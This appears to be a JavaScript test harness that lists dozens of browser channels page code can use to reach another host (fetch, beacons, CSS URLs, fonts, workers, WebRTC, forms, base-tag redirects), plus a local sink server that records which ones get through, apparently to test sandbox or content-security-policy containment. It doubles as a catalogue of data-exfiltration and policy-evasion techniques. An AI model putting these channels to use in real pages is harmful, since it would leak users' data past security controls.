// Every way in which code in a page can reach another computer, each tried with an address of its own, and the computer that listens.
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import { createServer as createTcpServer } from 'node:net';

/* Runs in the page: makes an element with these attributes and puts it into the document. */
const put = (name, attributes = {}, parent = document.body) => {
  const element = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  parent.append(element);
  return element;
};
/* Runs in the page: the same for drawings. */
const draw = (inside) => {
  const space = 'http://www.w3.org/2000/svg';
  const svg = document.createElementNS(space, 'svg');
  for (const [name, attributes] of inside) {
    const element = document.createElementNS(space, name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    (name === 'feImage' ? svg.lastChild : svg).append(element);
  }
  document.body.append(svg);
};
/* Runs in the page: a rule of style, by the way that a policy does not see as an inline style where there is one. */
const rule = (text) => {
  const sheet = new CSSStyleSheet();
  sheet.replaceSync(text);
  document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  put('p', { class: 'leak' }).textContent = 'leak';
};
/* Runs in the page: asks a server for its own address, which is a packet to it. */
const call = (Peer, { stun, turn }) => {
  const peer = new Peer({ iceServers: [{ urls: `stun:${stun}` }, { urls: `turn:${turn}?transport=tcp`, username: 'a', credential: 'b' }] });
  peer.createDataChannel('leak');
  return peer.createOffer().then(offer => peer.setLocalDescription(offer));
};

/** What leaves the page where it is. Each is called in the page with the address that it is to reach. */
export const STAYING = {
  fetch: url => fetch(url, { mode: 'no-cors' }),
  'fetch with a body': url => fetch(url, { mode: 'no-cors', method: 'POST', body: 'leak', keepalive: true }),
  XMLHttpRequest: url => { const request = new XMLHttpRequest(); request.open('GET', url); request.send(); },
  sendBeacon: url => navigator.sendBeacon(url, 'leak'),
  fetchLater: url => fetchLater(url, { activateAfter: 0 }),
  WebSocket: url => { new WebSocket(url.replace('http', 'ws')); },
  EventSource: url => { new EventSource(url); },
  WebTransport: (url, ports) => { new WebTransport(`https://${ports.transport}/leak`).ready.catch(() => {}); },
  img: url => { new Image().src = url; },
  'img srcset': url => put('img', { srcset: `${url} 1x` }),
  'picture source': url => { const picture = put('picture'); put('source', { srcset: url }, picture); put('img', {}, picture); },
  'input image': url => put('input', { type: 'image', src: url }),
  script: url => put('script', { src: url }),
  'script by property': url => { const script = document.createElement('script'); script.src = url; document.body.append(script); },
  'module script': url => { const script = document.createElement('script'); script.type = 'module'; script.src = url; document.body.append(script); },
  import: url => import(url),
  stylesheet: url => put('link', { rel: 'stylesheet', href: url }, document.head),
  '@import': url => { put('style').textContent = `@import url("${url}");`; },
  font: url => new FontFace('leak', `url("${url}")`).load(),
  'background of an attribute': url => put('p', { style: `background: url("${url}")` }),
  'background of a sheet': url => rule(`.leak { background-image: url("${url}") }`),
  'content of a sheet': url => rule(`.leak::after { content: url("${url}") }`),
  'cursor and mask': url => rule(`.leak { cursor: url("${url}"), auto; mask-image: url("${url}") }`),
  video: url => put('video', { src: url, preload: 'auto', muted: '' }),
  poster: url => put('video', { poster: url }),
  audio: url => put('audio', { src: url, preload: 'auto' }),
  track: url => { const video = put('video', { crossorigin: 'anonymous' }); put('track', { src: url, default: '', kind: 'subtitles' }, video); video.textTracks[0].mode = 'showing'; },
  object: url => put('object', { data: url }),
  embed: url => put('embed', { src: url }),
  iframe: url => put('iframe', { src: url }),
  'frame of its own words': url => put('iframe', { srcdoc: `<img src="${url}">` }),
  prefetch: url => put('link', { rel: 'prefetch', href: url }, document.head),
  preload: url => put('link', { rel: 'preload', as: 'image', href: url }, document.head),
  modulepreload: url => put('link', { rel: 'modulepreload', href: url }, document.head),
  preconnect: (url, ports) => put('link', { rel: 'preconnect', href: `http://${ports.preconnect}/` }, document.head),
  'speculation rules': url => { const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.textContent = JSON.stringify({ prefetch: [{ urls: [url], eagerness: 'immediate' }] }); document.head.append(rules); },
  icon: url => put('link', { rel: 'icon', href: url }, document.head),
  manifest: url => put('link', { rel: 'manifest', href: url }, document.head),
  'image of a drawing': url => draw([['image', { href: url, width: 9, height: 9 }]]),
  'use in a drawing': url => draw([['use', { href: `${url}#a` }]]),
  'feImage of a drawing': url => draw([['filter', { id: 'leak' }], ['feImage', { href: url }], ['rect', { width: 9, height: 9, filter: 'url(#leak)' }]]),
  worker: url => { new Worker(URL.createObjectURL(new Blob([`fetch("${url}", { mode: "no-cors" })`], { type: 'text/javascript' }))); },
  'shared worker': url => { new SharedWorker(`data:text/javascript,fetch("${url}",{mode:"no-cors"})`); },
  'service worker': url => navigator.serviceWorker.register(url),
  worklet: url => CSS.paintWorklet.addModule(url),
  'form into a frame': url => { put('iframe', { name: 'leak-frame' }); put('form', { action: url, method: 'post', target: 'leak-frame' }).submit(); },
  'form into a window': url => put('form', { action: url, target: '_blank' }).submit(),
  ping: url => put('a', { href: '#', ping: url }).click(),
  WebRTC: (url, ports) => call(window.RTCPeerConnection ?? window.webkitRTCPeerConnection, ports),
  'WebTransport of a new frame': (url, ports) => { new (put('iframe').contentWindow.WebTransport)(`https://${ports.again.transport}/leak`).ready.catch(() => {}); },
  'WebRTC of a new frame': (url, ports) => call(put('iframe').contentWindow.RTCPeerConnection, ports.again),
  payment: url => new PaymentRequest([{ supportedMethods: url }], { total: { label: 'leak', amount: { currency: 'USD', value: '1' } } }).canMakePayment(),
  // The last: what has no address of its own would lead elsewhere from here on.
  base: url => { const base = put('base', { href: `${url}/` }, document.head); new Image().src = 'below'; setTimeout(() => base.remove(), 300); },
};

/** What takes the page, the tab or a new window elsewhere. Each begins with a press, as a person's press is what code may wait for. */
export const LEADING_AWAY = {
  'location to itself': url => { location.href = url; },
  'meta refresh': url => put('meta', { 'http-equiv': 'refresh', content: `0;url=${url}` }, document.head),
  'link to itself': url => put('a', { href: url }).click(),
  'form to itself': url => put('form', { action: url }).submit(),
  'top by a press': url => { window.top.location.href = url; },
  'new window by a press': url => { window.open(url); },
  'new window by a link': url => put('a', { href: url, target: '_blank' }).click(),
};

/** Self-navigation in all its forms: the document, the tab, or a new window goes to an address. */
export const NAVIGATION = ['location to itself', 'meta refresh', 'link to itself', 'top by a press', 'new window by a press', 'new window by a link'];

/** The source of all channels, for a script that runs in a page. */
export const source = channels => `const put = ${put}; const draw = ${draw}; const rule = ${rule}; const call = ${call};
const channels = { ${Object.entries(channels).map(([name, run]) => `${JSON.stringify(name)}: ${run}`).join(',\n')} };`;

/** The address of a channel at the sink. */
const slug = name => `/leak/${encodeURIComponent(name)}`;

/** A computer elsewhere: it hears requests, packets and connections, and knows by the address or the port which channel they came by. */
export async function startSink(address = '127.0.0.4') {
  const reached = new Set();
  const tcp = new Set();
  const open = [];
  const hear = path => { const [, name] = /\/leak\/([^/?]+)/.exec(path) ?? []; if (name) reached.add(decodeURIComponent(name)); };
  const http = createServer((request, response) => {
    hear(request.url);
    response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*', 'cache-control': 'no-store' });
    response.end('<title>Elsewhere</title>');
  });
  http.on('upgrade', (request, socket) => { hear(request.url); socket.destroy(); });
  http.on('connection', socket => { tcp.add(socket); socket.once('close', () => tcp.delete(socket)); });
  const listening = server => new Promise((done, fail) => { server.once('error', fail); server.listen(0, address, done); });
  await listening(http);
  open.push(() => { for (const socket of tcp) socket.destroy(); return new Promise(done => { http.close(done); }); });

  const packets = async name => {
    const socket = createSocket('udp4');
    socket.on('message', () => reached.add(name));
    await new Promise(done => { socket.bind(0, address, done); });
    open.push(() => new Promise(done => { socket.close(done); }));
    return `${address}:${socket.address().port}`;
  };
  const connections = async name => {
    const server = createTcpServer(socket => { reached.add(name); socket.on('error', () => {}); socket.destroy(); });
    await listening(server);
    open.push(() => new Promise(done => { server.close(done); }));
    return `${address}:${server.address().port}`;
  };
  const ports = {
    transport: await packets('WebTransport'),
    preconnect: await connections('preconnect'),
    stun: await packets('WebRTC'), turn: await connections('WebRTC'),
    again: { transport: await packets('WebTransport of a new frame'), stun: await packets('WebRTC of a new frame'), turn: await connections('WebRTC of a new frame') },
  };
  const origin = `http://${address}:${http.address().port}`;
  return { reached, ports, origin, url: name => origin + slug(name), async close() { for (const end of open) await end(); } };
}
